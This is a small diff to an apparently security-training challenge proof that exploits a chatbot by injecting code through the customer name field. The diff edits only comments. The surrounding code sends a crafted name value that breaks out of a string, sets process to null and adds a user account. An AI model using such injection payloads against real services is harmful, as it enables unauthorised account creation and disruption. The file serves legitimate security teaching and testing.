@@ -4,7 +4,7 @@ import { challenge } from './challenge.ts'
 const say = (attacker: Attacker, action: string, query: string) =>
   attacker.post('/rest/chatbot/respond', { action, query })
 
-/** Gives the bot a name as a new customer, and says hello. */
+/** Sets a name for a new customer and says hello to the bot. */
 const introducedAs =
   (name: string): Attack =>
   async (attacker) => {
@@ -18,7 +18,7 @@ export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.becomeCustomer()
     await attacker.get('/rest/chatbot/status')
-    // A name that is only half understood shows that it is put into code.
+    // A name with a quote breaks the answer, which shows that the name is pasted into code.
     await say(attacker, 'setname', 'Pip"')
     await say(attacker, 'query', 'hello')
     await say(attacker, 'setname', 'admin"); process=null; users.addUser("1337", "test')
